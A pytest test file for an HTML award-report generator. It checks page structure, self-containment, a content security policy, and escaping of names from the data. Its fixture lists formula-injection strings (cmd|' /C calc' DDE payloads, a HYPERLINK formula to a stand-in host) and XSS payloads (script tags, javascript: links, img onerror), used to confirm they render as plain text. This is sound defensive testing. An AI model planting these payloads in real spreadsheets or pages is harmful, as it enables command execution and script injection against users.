"""The HTML report: a real page (lang, tables with headings, the summary before the
proposed), self-contained (no URL to load anything), every name from the data escaped
exactly, and — where Chromium is installed — rendered by a browser as it was written."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

import rallyrules as rr
from rallyrules.outputs.html import render_report, write_report

from .conftest import FIXTURES_DIR

CASES = Path(os.environ.get("RALLYRULES_SHARED", Path(__file__).resolve().parents[2] / "shared")) / "cases"
INJECTION = CASES / "injection-names.csv"
# The same names as the shared case file, so that the test runs where shared/ is absent.
INJECTION_NAMES = {
    "BCD-31117": '=HYPERLINK("http://example.invalid/?x="&B8,"Xem chi tiết")',
    "BCD-31120": "+1+cmd|' /C calc'!A0",
    "BCD-31123": "-2+3+cmd|' /C calc'!A0",
    "BCD-31129": "@SUM(1+1)*cmd|' /C calc'!A0",
    "BCD-31149": "[link=javascript:alert(document.domain)]Phường An Bình[/link]",
    "BCD-31154": '[link="><img src=x onerror=alert(1)>]Phường Xuân Khánh[/link]',
    "BCD-31162": "<script>alert(1)</script>Phường Hưng Lợi",
    "BCD-31165": "Tổ [bhxh] khu vực [b]2",
    "BCD-31168": "\t=1+1 (tab first)",
    "BCD-31171": "Ấp [/] 3",
}
UNIT_NAMES = {"916": "Quận Ninh Kiều", "917": "Quận Ô Môn"}


def injection_names() -> dict[str, str]:
    if INJECTION.is_file():
        with INJECTION.open(encoding="utf-8", newline="") as handle:
            names = {row["subject_id"]: row["name"] for row in csv.DictReader(handle)}
        assert names == INJECTION_NAMES  # the copy above is the shared case
    return dict(INJECTION_NAMES)


def injected_data(folder: Path) -> Path:
    """The bundled data with the injection cases' names in subjects.csv."""
    target = folder / "data"
    shutil.copytree(FIXTURES_DIR, target)
    names = injection_names()
    with (target / "subjects.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["name"] = names.get(row["subject_id"], row["name"])
    with (target / "subjects.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return target


class Page(HTMLParser):
    """What the tests look at in a page: tags in order, table headings, text, URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.tables = 0
        self.heads = 0
        self.scripts: list[str] = []
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.tables += tag == "table"
        self.heads += tag == "thead"
        self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._in:
            while self._in and self._in.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] == "script":
            self.scripts.append(data)
        elif not self._in or self._in[-1] != "style":
            self.text.append(data)


def parse(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


@pytest.fixture(scope="module")
def result(pack: rr.RulePack) -> rr.Evaluation:
    return rr.evaluate(pack, rr.load_dataset(FIXTURES_DIR), engine="python")


@pytest.fixture(scope="module")
def injected(pack: rr.RulePack, tmp_path_factory: pytest.TempPathFactory) -> rr.Evaluation:
    return rr.evaluate(pack, rr.load_dataset(injected_data(tmp_path_factory.mktemp("injected"))), engine="python")


def test_a_page_with_tables_summary_first(result: rr.Evaluation, pack: rr.RulePack) -> None:
    html = render_report(result, "vi", pack=pack, unit_names=UNIT_NAMES)
    page = parse(html)
    assert page.tags[0] == ("html", {"lang": "vi"})
    assert page.tables >= 10 and page.heads == page.tables - 1  # every table but the receipt's has headings
    text = "".join(page.text)
    summary = text.index("Tổng hợp theo đợt và người tặng", text.index("Lọc các bảng"))
    proposed = text.index("Danh sách đề nghị khen thưởng", summary)
    rest = text.index("Các đối tượng không được đề nghị", proposed)
    assert summary < proposed < rest
    # The summary: per round and authority, the cap as rate × base = maximum, a cap of 0 shown.
    assert "Chủ tịch UBND quận Ninh Kiều" in text[summary:proposed]  # the pack's name_in_area
    assert "Chủ tịch UBND quận, huyện — địa bàn mã 918" in text[summary:proposed]  # no name given: the code
    assert "10% × 12 = 1" in text[summary:proposed] and "5% × 10 = 0" in text[summary:proposed]
    # Proposed: names with their ids, collectives then individuals, the rank and the cap.
    assert "Ban Chỉ đạo BHXH, BHYT Phường Thới Bình (BCD-31123)" in text[proposed:rest]
    assert text.index("I. Tập thể", proposed) < text.index("II. Cá nhân", proposed) < rest
    assert "hạng 1/6 · tối đa 1" in text[proposed:rest]
    # The rest: over the cap with their rank, not eligible with reasons in words.
    assert "Ban Chỉ đạo BHXH, BHYT Phường Cái Khế (BCD-31117)" in text[rest:]
    assert "hạng 4/6 · tối đa 1" in text[rest:]
    assert "Ban Chỉ đạo BHXH, BHYT Phường An Nghiệp (BCD-31126)" in text[rest:]
    assert "54/55 (98,18%)" in text[rest:]
    assert "39.779" in text  # Vietnamese number format


def test_the_page_is_english_too(result: rr.Evaluation) -> None:
    page = parse(render_report(result, "en"))
    assert page.tags[0] == ("html", {"lang": "en"})
    text = "".join(page.text)
    assert "Summary by round and awarding authority" in text and "39,779" in text
    with pytest.raises(ValueError, match="lang must be"):
        render_report(result, "fr")


def test_self_contained_no_url_no_monospace(result: rr.Evaluation, pack: rr.RulePack) -> None:
    html = render_report(result, "vi", pack=pack)
    page = parse(html)
    for tag, attrs in page.tags:
        for name in ("src", "href", "action", "data", "poster"):
            value = attrs.get(name)
            assert value is None or value.startswith("#"), (tag, name, value)
        assert tag not in ("link", "iframe", "img", "object", "embed", "base"), tag
    assert not re.search(r"url\(|@import|https?://", html.split("<body>")[0]), "the style loads nothing"
    style = html[html.index("<style>") : html.index("</style>")]
    assert '"Times New Roman", "Liberation Serif", "Noto Serif", "DejaVu Serif", serif' in style
    families = re.findall(r"font-family:([^;}]+)", style)
    assert families and not [f for f in families if re.search("mono|courier|consolas", f, re.IGNORECASE)]
    csp = next(a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
    assert csp is not None and "default-src 'none'" in csp and "unsafe-inline" not in csp


def test_every_name_is_escaped_exactly(injected: rr.Evaluation, pack: rr.RulePack, tmp_path: Path) -> None:
    path = write_report(injected, tmp_path / "report.html", "vi", pack=pack)
    html = path.read_text("utf-8")
    page = parse(html)
    text = "".join(page.text)
    names = {d.subject_id: d.subject_name for d in injected.decisions if d.subject_id in INJECTION_NAMES}
    assert set(names) == set(INJECTION_NAMES)
    for subject_id, name in names.items():
        assert f"{name} ({subject_id})" in text, name  # shown as written, as text
    # Nothing from a name became markup: one script (ours), no element from the data.
    assert len(page.scripts) == 1 and "alert" not in page.scripts[0]
    assert all(tag not in ("img", "a") or attrs.get("href", "").startswith("#") for tag, attrs in page.tags)
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "javascript:" not in {v for _, attrs in page.tags for v in attrs.values() if v}


def test_write_is_atomic(result: rr.Evaluation, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "report.html"
    path.write_text("previous", "utf-8")

    def broken(*args: object, **kwargs: object) -> str:
        raise RuntimeError("template failed")

    monkeypatch.setattr("rallyrules.outputs.html.render_report", broken)
    with pytest.raises(RuntimeError):
        write_report(result, path, "vi")
    assert path.read_text("utf-8") == "previous"


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None and os.environ.get("CI") is None, reason="Chromium is not installed (CI installs it)")
def test_chromium_renders_the_names_as_written(injected: rr.Evaluation, pack: rr.RulePack, tmp_path: Path) -> None:
    """The browser's DOM (after the script ran) holds every name as text, the tables, and
    no element a name could have made."""
    assert CHROMIUM is not None, "Chromium must be installed on CI (noxfile.py installs it)"
    page = write_report(injected, tmp_path / "report.html", "vi", pack=pack, unit_names=UNIT_NAMES)
    run = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom",
         page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr[-2000:]
    dom = parse(run.stdout)
    text = "".join(dom.text)
    for subject_id, name in INJECTION_NAMES.items():
        shown = next(d.subject_name for d in injected.decisions if d.subject_id == subject_id)
        assert f"{shown} ({subject_id})" in text, name
    assert not [t for t, _ in dom.tags if t in ("img", "iframe", "object")]
    # The script ran (the filter box is shown, headings sort), no other.
    assert ("div", {"class": "tools", "id": "tools"}) in dom.tags
    assert sum(t == "th" and "sorts" in (a.get("class") or "") and a.get("tabindex") == "0" for t, a in dom.tags) > 20
    assert dom.tables >= 10
